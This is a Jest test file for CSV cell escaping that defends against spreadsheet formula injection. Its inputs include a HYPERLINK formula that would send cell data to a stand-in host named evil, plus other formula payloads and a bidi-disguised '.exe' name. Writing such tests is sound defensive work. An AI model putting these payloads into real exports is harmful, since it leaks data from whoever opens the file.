import { describe, expect, it } from '@jest/globals';
import { csvHeader, csvLine } from './csv.js';

const written = (value: string): string => csvLine([{ isNumber: false, of: (row: string) => row }], value).slice(0, -2);

describe('a text in a cell', () => {
  it.each([
    ['João Lima', 'João Lima'],
    ['a-b, c', '"a-b, c"'],
    ['tx_1; 20-11', 'tx_1; 20-11'],
    ['Bob \u202egnp.exe', 'Bob gnp.exe'],
    ['=1+1', "'=1+1"],
    [' \u200b=1+1', " \u200b'=1+1"],
    ['\uff1d1', "'\uff1d1"],
    ['João;=HYPERLINK("http://evil/?"&A1)', '"João;\'=HYPERLINK(""http://evil/?""&A1)"'],
    ['x";=1+1', '"x"";\'=1+1"'],
    ['x;"=1+41;y', '"x;""\'=1+41;y"'],
    ['""@SUM(1)', '"""""\'@SUM(1)"'],
    ['a\t=1+1', "a\t'=1+1"],
    ['ok\n@SUM(1)', '"ok\n\'@SUM(1)"'],
    ['a; ; \r=1', '"a; ; \r\'=1"'],
  ])('%p is no formula, whatever separates the cells', (value, cell) => expect(written(value)).toBe(cell));

  it('takes as long as it is', () => {
    const begun = performance.now();
    written('\n'.repeat(200_000) + '='.repeat(200_000));
    expect(performance.now() - begun).toBeLessThan(1_000);
  });

  it('is none in a heading either', () => expect(csvHeader(['day', 'a;=1'])).toBe("day,a;'=1\r\n"));

  it('leaves numbers as they are', () => {
    expect(csvLine([{ isNumber: true, of: (row: string) => row }], '-9.90')).toBe('-9.90\r\n');
  });
});
